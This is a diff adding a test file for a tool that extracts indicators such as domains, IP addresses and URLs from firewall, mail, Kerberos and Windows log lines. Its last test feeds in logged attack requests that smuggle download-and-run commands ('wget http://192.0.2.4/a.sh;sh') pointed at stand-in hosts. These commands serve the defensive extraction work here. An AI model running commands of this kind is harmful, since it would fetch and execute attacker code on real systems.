@@ -1,0 +1,113 @@
+import { findIndicators } from '../../../src/core/indicators/index';
+import assert from 'node:assert/strict';
+import { assertFound, assertNone, raws } from './finding';
+
+describe('forms that logs write', () => {
+  it('names below endings that have no entry of their own in the list', () =>
+    assertFound([
+      [
+        'to=<jo@a-site.co.za>, relay=mx.b-site.org.za[192.0.2.4], co.za',
+        ['domain a-site.co.za', 'domain mx.b-site.org.za', 'ip 192.0.2.4'],
+      ],
+      ['GET https://a-site.co.za/x', ['url https://a-site.co.za/x']],
+    ]));
+
+  it('URLs whose host many names share', () => {
+    assertFound([
+      ['GET https://s3.amazonaws.com/bucket/a.exe', ['url https://s3.amazonaws.com/bucket/a.exe']],
+      ['hxxps://github[.]io/x, github[.]io/y', ['url https://github.io/x', 'url http://github.io/y']],
+      ['"eventSource":"s3.amazonaws.com" github.io github[.]io https://co.uk/x', []],
+    ]);
+    assert.equal(findIndicators('https://s3.amazonaws.com/x')[0]?.reserved, false);
+  });
+
+  it('a number behind a slash: port or prefix', () =>
+    assertFound([
+      [
+        'Built inbound ICMP connection for faddr 81.2.69.144/0 gaddr 81.2.69.145/9 laddr 10.10.10.11/17 type 3',
+        ['ip 81.2.69.144', 'ip 81.2.69.145', 'ip 10.10.10.11'],
+      ],
+      ['Deny TCP from 81.2.69.144/22 to 10.1.1.1/51515 flags', ['ip 81.2.69.144', 'ip 10.1.1.1']],
+      ['denied from 81.2.69.144/43803 to inside:10.1.1.1/25 flags', ['ip 81.2.69.144', 'ip 10.1.1.1']],
+      ['session 10.0.0.1/594->10.0.1.5/22 0x0', ['ip 10.0.0.1', 'ip 10.0.1.5']],
+      ['for outside:81.2.69.144/22 (81.2.69.145/22) to x', ['ip 81.2.69.144', 'ip 81.2.69.145']],
+      ['src OUTSIDE:2a02:cf40::91f2/443 dst inside:2001:db8::5/22', ['ip 2a02:cf40::91f2', 'ip 2001:db8::5']],
+      ['from 10.1.0.1/24 to 10.2.0.1/24, addr:10.1.2.3/24, inside:10.1.0.0/16, 10.1.2.3/32, 0.0.0.0/0', []],
+      ['2001:db8::1/64 inet6 addr:2001:db8::1/64 2001:db8::/32 route 10.0.0.0/8->10.1.0.0/16', []],
+    ]));
+
+  it('an address behind the name of an interface or a host', () =>
+    assertFound([
+      [
+        'permitted tcp inside/81.2.69.144(62157) -> outside/81.2.69.145(22) hit-cnt 1',
+        ['ip 81.2.69.144', 'ip 81.2.69.145'],
+      ],
+      ['connect to web-1/81.2.69.144, Chrome/124.0.0.0 Reader/4.4.5.100', ['ip 81.2.69.144']],
+    ]));
+
+  it('both ends behind an ellipsis', () =>
+    assertFound([
+      [
+        'established between 10.0.0.1[gw.a-site.org]...81.2.69.144[b-site.org]',
+        ['ip 10.0.0.1', 'domain gw.a-site.org', 'ip 81.2.69.144', 'domain b-site.org'],
+      ],
+    ]));
+
+  it('versions of mail servers, products and packages are none', () =>
+    assertNone([
+      'with Microsoft SMTP Server (TLS) id 14.1.225.23; Thu, 20 Sep 2012',
+      'with Microsoft SMTP Server (TLS)\r\n id 8.3.245.1; Wed, 19 Sep 2012',
+      'cpe:/a:acme:web_server:2.4.7.1 and cpe:2.3:a:acme:tool:1.2.3.4:*:*:*',
+      'pkg:npm/left-pad@1.2.3.4 and org.acme:core-lib:2.1.3.4',
+      'CN=a,2.5.4.15=Private Organization',
+    ]));
+
+  it('names in capitals, as Windows and registries write them', () =>
+    assertFound([
+      ['Computer: DC01.corp.local, MSG1.AcmeRelay.local', ['domain dc01.corp.local', 'domain msg1.acmerelay.local']],
+      ['CORP.LOCAL\\jo logged on to SRV2.CORP.LOCAL', ['domain corp.local', 'domain srv2.corp.local']],
+      ['hostname "Anns-MacBook-Pro.local"', ['domain anns-macbook-pro.local']],
+      ['Name Server: NS1.A-SITE.INFO\nDomain Name: SITEA.INFO', ['domain ns1.a-site.info', 'domain sitea.info']],
+      ['nserver:      DNS1.SITEA.IT', ['domain dns1.sitea.it']],
+      ['Hello.a-site.me.\t7200\tIN\tTXT', ['domain hello.a-site.me']],
+      ['select EMP.NAME, T1.ID from DB1.EMP.ID; Thread.local; LOGGER.INFO', []],
+    ]));
+
+  it('principals of Kerberos', () =>
+    assertFound([
+      [
+        'krbtgt/CORP.LOCAL@CORP.LOCAL for HTTP/web1.a-site.com@A-SITE.COM',
+        ['domain corp.local', 'domain corp.local', 'domain web1.a-site.com', 'domain a-site.com'],
+      ],
+      [
+        'cifs/dc1.corp.local ldap/dc1.ad.internal/ad.internal "AnnHD/CORP.LOCAL"',
+        ['domain dc1.corp.local', 'domain dc1.ad.internal', 'domain corp.local'],
+      ],
+      ['src/http/client.rs bin/setup.local', []],
+    ]));
+
+  it('names of users, units and files are none', () => {
+    assertNone([
+      'for invalid user john.li from; user=max.page; username="ann.black"; for user jo.kim port',
+      'Reached target network-online.target. Stopped target multi-user.target',
+      'daemon.info dnsmasq[1]: kern.info local7.info auth.info',
+      "phrase in `unix-shell.data'",
+    ]);
+    assertFound([
+      ['user=a-site.com jo@mail.info', ['domain a-site.com', 'domain mail.info']],
+      ['user=ann@b-site.page USER=a-site.live\\ann', ['domain b-site.page', 'domain a-site.live']],
+    ]);
+  });
+
+  it('what a command in a request downloads', () => {
+    assert.deepEqual(raws('GET /shell?cd+/tmp;wget+http://192.0.2.4/a.sh;sh+/tmp/a.sh HTTP/1.1'), [
+      'http://192.0.2.4/a.sh',
+    ]);
+    assert.deepEqual(raws('cmd=wget+http://192.0.2.4:88/a.m+-O+/tmp/b;sh+b&x=/'), ['http://192.0.2.4:88/a.m']);
+    assert.deepEqual(raws('?x=curl%20-s%20http://a-site.com/a%20-o%20b%3Bsh'), ['http://a-site.com/a']);
+    assert.deepEqual(raws('http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a'), [
+      'http://192.0.2.9/?wget+http://192.0.2.4/a;sh+a',
+    ]);
+    assert.deepEqual(raws('q=see+http://a-site.com/a+b;c'), ['http://a-site.com/a+b;c']);
+  });
+});
